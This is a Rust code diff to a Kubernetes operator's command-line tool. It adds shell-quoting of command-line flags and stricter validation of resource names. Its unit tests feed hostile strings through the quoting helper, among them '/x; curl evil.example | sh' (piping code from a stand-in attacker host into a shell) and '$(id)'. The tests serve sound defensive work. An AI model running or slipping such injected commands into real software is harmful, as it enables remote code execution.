@@ -12,13 +12,15 @@ use kube::{
     config::Kubeconfig,
 };
 
-use super::entry::kind;
+use super::entry::{Caller, kind};
 use crate::{
     api::{self, KindName, kinds::kinds},
-    apiserver::{Connector, NoAccess},
-    cli::people::{Access, Scope, Selection},
+    apiserver::{Connector, NoAccess, words},
+    cli::{
+        called,
+        people::{Access, Scope, Selection},
+    },
     proxy::Proxies,
-    telemetry::error::in_words,
 };
 
 /// Objects per page of a list.
@@ -27,6 +29,8 @@ const PAGE: u32 = 500;
 /// An API server, and the namespace of its context.
 pub(super) struct Cluster {
     pub(super) client: Client,
+    /// How the next step of a person reaches this API server.
+    pub(super) caller: Caller,
     namespace: String,
     /// Whether this process runs in a pod, as its service account.
     pub(super) in_pod: bool,
@@ -46,6 +50,7 @@ impl Cluster {
             })?;
         Ok(Self {
             client: connector.plain()?,
+            caller: caller(access),
             namespace: connector.default_namespace().to_owned(),
             in_pod,
         })
@@ -127,6 +132,34 @@ impl Cluster {
     }
 }
 
+/// Returns how this process was called, with the flags that choose the API server.
+pub(super) fn caller(access: &Access) -> Caller {
+    let kubeconfig = access.kubeconfig.as_ref().map(|path| path.display().to_string());
+    let flags = [("kubeconfig", kubeconfig), ("context", access.context.clone())];
+    let flags = flags
+        .into_iter()
+        .filter_map(|(flag, value)| Some(format!(" --{flag} {}", quoted(&value?))));
+    Caller {
+        program: called().to_owned(),
+        flags: flags.collect(),
+    }
+}
+
+/// Returns a word of a command line, quoted if a shell would read it otherwise.
+pub(super) fn quoted(word: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@=,+%".contains(c);
+    if !word.is_empty() && word.chars().all(is_plain) {
+        return word.to_owned();
+    }
+    format!("'{}'", word.replace('\'', "'\\''"))
+}
+
+/// Whether this can be the name of a resource: other texts would lead to another path of the API server.
+fn is_name(text: &str) -> bool {
+    let is_inner = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-' || b == b'.';
+    (1..=253).contains(&text.len()) && text.bytes().all(is_inner) && !text.starts_with(['-', '.'])
+}
+
 /// Returns how the API server names the resources of a kind.
 fn resource(kind: KindName) -> ApiResource {
     macro_rules! erased {
@@ -159,10 +192,13 @@ fn named(resources: &[String]) -> anyhow::Result<Vec<(KindName, String)>> {
         if let Some(pair) = names.iter().find(|name| is_pair(name)) {
             bail!("{pair:?} follows a kind: give either KIND NAME …, or KIND/NAME …");
         }
+        if let Some(odd) = names.iter().find(|name| !is_name(name)) {
+            bail!("{odd:?} cannot be the name of a resource");
+        }
         return Ok(names.iter().map(|name| (kind, name.clone())).collect());
     }
     let pairs = resources.iter().map(|text| match text.split_once('/') {
-        Some((kind, name)) if !name.is_empty() && !name.contains('/') => Ok((known(kind)?, name.to_owned())),
+        Some((kind, name)) if is_name(name) => Ok((known(kind)?, name.to_owned())),
         _ => bail!("{text:?} names no resource: give KIND/NAME, such as amplifybackend/staging"),
     });
     pairs.collect()
@@ -173,7 +209,7 @@ fn no_access(error: &Error, kubeconfig: Option<&Path>) -> anyhow::Error {
     let place = kubeconfig.map_or_else(String::new, |path| format!(" by {}", path.display()));
     anyhow::anyhow!(
         "no access to a Kubernetes API server{place}: {}. Set KUBECONFIG, or give --kubeconfig and --context",
-        in_words(error)
+        words(error)
     )
 }
 
@@ -185,7 +221,7 @@ pub(super) fn refused(kind: KindName, namespace: Option<&str>, error: &Error) ->
     };
     let next = match error {
         Error::Api(status) if status.code == 404 => {
-            ". The API server does not know the kind: apply the definitions with `amplify-operator crd | kubectl apply --server-side -f -`"
+            ". The API server does not know the kind: apply the definitions with `CALLED crd | kubectl apply --server-side -f -`"
         }
         Error::Api(status) if status.code == 403 && namespace.is_none() => {
             ". Give a namespace in which you may do this, with --namespace"
@@ -197,7 +233,7 @@ pub(super) fn refused(kind: KindName, namespace: Option<&str>, error: &Error) ->
         Error::Service(_) | Error::HyperError(_) => ". Is this the right --context, and does `kubectl version` work?",
         _ => "",
     };
-    anyhow::anyhow!("{what}: {}{next}", in_words(error))
+    anyhow::anyhow!("{what}: {}{}", words(error), next.replace("CALLED", called()))
 }
 
 #[cfg(test)]
@@ -212,6 +248,19 @@ mod tests {
                 all.collect::<Vec<_>>().join(" ")
             })
             .map_err(|error| error.to_string())
+    }
+
+    #[test]
+    fn a_word_is_quoted_where_a_shell_would_read_it_otherwise() {
+        for (word, wanted) in [
+            ("/etc/accounts.yaml", "/etc/accounts.yaml"),
+            ("", "''"),
+            ("/x; curl evil.example | sh", "'/x; curl evil.example | sh'"),
+            ("it's", "'it'\\''s'"),
+            ("$(id)", "'$(id)'"),
+        ] {
+            assert_eq!(quoted(word), wanted);
+        }
     }
 
     #[test]
@@ -234,6 +283,8 @@ mod tests {
             (&["staging"], Err("\"staging\" is no kind")),
             (&["ab", "bapi/x"], Err("\"bapi/x\" follows a kind")),
             (&["ab/x", "y"], Err("\"y\" names no resource")),
+            (&["ab/x?dryRun=All"], Err("\"ab/x?dryRun=All\" names no resource")),
+            (&["ab", ".."], Err("\"..\" cannot be the name")),
             (&["ab/"], Err("\"ab/\" names no resource")),
             (&["ab/x/y"], Err("\"ab/x/y\" names no resource")),
         ] {
